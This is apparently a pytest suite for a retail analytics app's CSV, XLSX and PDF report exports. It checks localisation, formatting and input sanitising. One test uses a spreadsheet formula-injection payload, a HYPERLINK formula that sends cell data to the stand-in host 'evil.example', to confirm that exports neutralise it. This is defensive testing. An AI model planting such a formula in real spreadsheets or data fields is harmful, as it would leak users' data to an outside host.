"""Exports read back: the CSV with the csv module, the XLSX with openpyxl, the PDF's text with pypdf."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time, timedelta

import openpyxl
import pypdf
import pytest
from sqlalchemy import update

from shopflow.reports.exports import export_csv, export_hourly_csv, export_hourly_xlsx, export_xlsx, safe_text, slug
from shopflow.reports.pdf import daily_report_pdf
from shopflow.storage.db import Database
from shopflow.storage.models import StoreRow
from shopflow.storage.records import ZoneConfig

from .helpers import SAO_PAULO, SHELF, TILL, entry, exit_, local, make_store, stay, write

DAY = date(2024, 3, 10)
STORE_NAME = "Loja São João"


def at(hour: int, minute: int = 0) -> datetime:
    return local(SAO_PAULO, 2024, 3, 10, hour, minute)


@pytest.fixture
def store_id(database: Database) -> int:
    store, (camera,) = make_store(database, name=STORE_NAME)
    write(
        database,
        camera.id,
        [
            entry(at(9, 10)),
            entry(at(9, 20)),
            entry(at(10, 5)),
            exit_(at(10, 30)),
            stay("shelf", at(9, 30), 90.0),
            stay("shelf", at(9, 40), 45.0),
            entry(local(SAO_PAULO, 2024, 3, 3, 9, 15)),  # the same weekday a week before
        ],
    )
    return store.id


def read_csv(content: bytes, delimiter: str) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_in_brazilian_portuguese(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_hourly_csv(session, store_id, DAY, DAY)
    assert export.filename == "shopflow_loja-sao-joao_2024-03-10_2024-03-10.csv"
    assert export.content_type == "text/csv; charset=utf-8"
    rows = read_csv(export.content, ";")
    assert rows[0][:5] == ["Início (ISO 8601)", "Data", "Hora", "Entradas", "Saídas"]
    assert rows[0][-2:] == ["Permanência média (s)", "Ocupação máxima"]
    assert len(rows) == 1 + 24
    nine = rows[1 + 9]
    assert nine[:5] == ["2024-03-10T09:00:00-03:00", "10/03/2024", "09:00", "2", "0"]
    assert nine[-2] == "67,5"  # (90 + 45) / 2 with a decimal comma
    assert rows[1 + 10][3:5] == ["1", "1"]
    assert rows[1 + 11][-2] == ""  # no visits, no average


def test_csv_in_english(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_hourly_csv(session, store_id, DAY, DAY + timedelta(days=1), lang="en")
    rows = read_csv(export.content, ",")
    assert rows[0][:5] == ["Start (ISO 8601)", "Date", "Hour", "Entries", "Exits"]
    assert len(rows) == 1 + 48
    assert rows[1 + 9][1:4] == ["2024-03-10", "09:00", "2"]
    assert rows[1 + 9][-2] == "67.5"


def test_xlsx_has_real_dates_and_numbers(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_hourly_xlsx(session, store_id, DAY, DAY)
    assert export.filename.endswith(".xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(export.content))
    assert workbook.sheetnames == ["Por hora", "Resumo"]
    hourly = workbook["Por hora"]
    header = [cell.value for cell in hourly[1]]
    assert header[:4] == ["Início (ISO 8601)", "Data", "Hora", "Entradas"]
    nine = [cell.value for cell in hourly[2 + 9]]
    assert nine[0] == "2024-03-10T09:00:00-03:00"
    assert nine[1] == datetime(2024, 3, 10)  # Excel stores a date as a datetime at midnight
    assert nine[2] == time(9, 0)
    assert nine[3] == 2
    assert nine[header.index("Permanência média (s)")] == pytest.approx(67.5)
    assert hourly.max_row == 1 + 24
    summary = {row[0].value: row[1].value for row in workbook["Resumo"].iter_rows()}
    assert summary["Loja"] == STORE_NAME
    assert summary["Câmera"] == "Todas as câmeras"
    assert summary["Entradas"] == 3
    assert summary["Período"] == "10/03/2024 – 10/03/2024"


def pdf_text(content: bytes) -> tuple[int, str]:
    reader = pypdf.PdfReader(io.BytesIO(content))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_daily_report(database: Database, store_id: int) -> None:
    with database.session() as session:
        report = daily_report_pdf(session, store_id, DAY, now=at(23))
    assert report.content.startswith(b"%PDF-")
    assert report.content_type == "application/pdf"
    assert report.filename == "shopflow_loja-sao-joao_2024-03-10.pdf"
    pages, text = pdf_text(report.content)
    assert pages == 1
    for expected in (
        STORE_NAME,
        "Relatório diário",
        "domingo, 10 de março de 2024",
        "Entradas por hora",
        "Permanência por zona",
        "shelf",
        "till",
        "1 min 08 s",
        "+200,0%",
    ):
        assert expected in text, expected


def test_pdf_in_english_continues_a_long_zone_table_on_more_pages(database: Database) -> None:
    # 42 zone rows as two cameras of 21: one camera may have at most MAX_ZONES_PER_CAMERA (32) zones.
    zones = [SHELF, TILL] + [ZoneConfig(f"aisle {n}", ((0.1, 0.1), (0.2, 0.1), (0.2, 0.2))) for n in range(19)]
    store, (camera, _) = make_store(database, name=STORE_NAME, cameras=2, zones=zones)
    write(database, camera.id, [entry(at(12))])
    with database.session() as session:
        report = daily_report_pdf(session, store.id, DAY, lang="en", now=at(23))
    pages, text = pdf_text(report.content)
    assert pages == 2
    assert "Daily report" in text and "(continued)" in text and "Sunday, March 10, 2024" in text
    assert "aisle 18" in text and "cam 2" in text


@pytest.mark.parametrize(
    ("name", "expected"),
    [("Loja São João", "loja-sao-joao"), ("  Ação & Cia. ", "acao-cia"), ("日本", "store")],
)
def test_slug(name: str, expected: str) -> None:
    assert slug(name) == expected


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Abrir")'


def _legacy_store_name(database: Database, store_id: int, name: str) -> None:
    """A name stored before names were checked (the API and the repository refuse control characters now)."""
    with database.session() as session:
        session.execute(update(StoreRow).where(StoreRow.id == store_id).values(name=name))


def test_xlsx_text_cells_are_never_formulas(database: Database) -> None:
    store, (camera,) = make_store(database, name=FORMULA_NAME)
    write(database, camera.id, [entry(at(9))])
    with database.session() as session:
        export = export_hourly_xlsx(session, store.id, DAY, DAY, camera_id=camera.id)
    workbook = openpyxl.load_workbook(io.BytesIO(export.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    summary = {row[0].value: row[1].value for row in workbook["Resumo"].iter_rows()}
    assert summary["Loja"] == "'" + FORMULA_NAME


def test_xlsx_and_pdf_survive_control_characters_in_a_stored_name(database: Database, store_id: int) -> None:
    _legacy_store_name(database, store_id, "Loja\x01\x0b São\x1f João")
    with database.session() as session:
        xlsx = export_hourly_xlsx(session, store_id, DAY, DAY)
        csv_export = export_hourly_csv(session, store_id, DAY, DAY)
    summary = {
        row[0].value: row[1].value for row in openpyxl.load_workbook(io.BytesIO(xlsx.content))["Resumo"].iter_rows()
    }
    assert summary["Loja"] == "Loja São João"
    assert read_csv(csv_export.content, ";")[1][3] == "0"


def test_pdf_with_dollar_signs_in_the_names(database: Database) -> None:
    store, (camera,) = make_store(database, name="Loja $$ 100% $x^2$")
    write(database, camera.id, [entry(at(9))])
    with database.session() as session:
        report = daily_report_pdf(session, store.id, DAY, camera_id=camera.id, now=at(23))
    _, text = pdf_text(report.content)
    assert "Loja $$ 100% $x^2$" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+55 11 9999", "'+55 11 9999"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Loja = Centro", "Loja = Centro"),
        ("Loja\x00\x07Centro", "LojaCentro"),
        ("", ""),
    ],
)
def test_safe_text(text: str, expected: str) -> None:
    assert safe_text(text) == expected


def test_xlsx_opens_on_its_summary(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_hourly_xlsx(session, store_id, DAY, DAY)
    workbook = openpyxl.load_workbook(io.BytesIO(export.content))
    assert workbook.active is not None and workbook.active.title == "Resumo"
    assert summary_of(workbook)["Horas consideradas"] == "Todas as 24 horas do dia"


def summary_of(workbook: openpyxl.Workbook) -> dict[object, object]:
    return {row[0].value: row[1].value for row in workbook["Resumo"].iter_rows()}


def test_csv_by_day(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_csv(session, store_id, DAY - timedelta(days=7), DAY, by="day")
    assert export.filename == "shopflow_loja-sao-joao_2024-03-03_2024-03-10_by-day.csv"
    rows = read_csv(export.content, ";")
    assert rows[0][:3] == ["Data", "Entradas", "Saídas"]
    assert len(rows) == 1 + 8
    assert rows[1][:2] == ["03/03/2024", "1"]
    assert rows[-1][:3] == ["10/03/2024", "3", "1"]


def test_xlsx_by_day_and_by_zone(database: Database, store_id: int) -> None:
    with database.session() as session:
        days = export_xlsx(session, store_id, DAY - timedelta(days=1), DAY, by="day", lang="en")
        zones = export_xlsx(session, store_id, DAY, DAY, by="zone", lang="en")
    by_day = openpyxl.load_workbook(io.BytesIO(days.content))
    assert by_day.sheetnames == ["Daily", "Summary"]
    assert [cell.value for cell in by_day["Daily"][3]][:2] == [datetime(2024, 3, 10), 3]
    by_zone = openpyxl.load_workbook(io.BytesIO(zones.content))
    assert by_zone.sheetnames == ["By zone", "Summary"]
    sheet = by_zone["By zone"]
    assert [cell.value for cell in sheet[1]] == ["Camera", "Zone", "Visits", "Mean (s)", "Median (s)", "P90 (s)"]
    shelf = [cell.value for cell in sheet[2]]
    assert shelf[:3] == ["cam 1", "shelf", 2]
    assert shelf[3] == pytest.approx(67.5)


def test_csv_by_zone(database: Database, store_id: int) -> None:
    with database.session() as session:
        export = export_csv(session, store_id, DAY, DAY, by="zone", lang="en")
    assert export.filename.endswith("_by-zone.csv")
    rows = read_csv(export.content, ",")
    assert rows[1] == ["cam 1", "shelf", "2", "67.5", "67.5", "85.5"]
    assert rows[2][:3] == ["cam 1", "till", "0"]
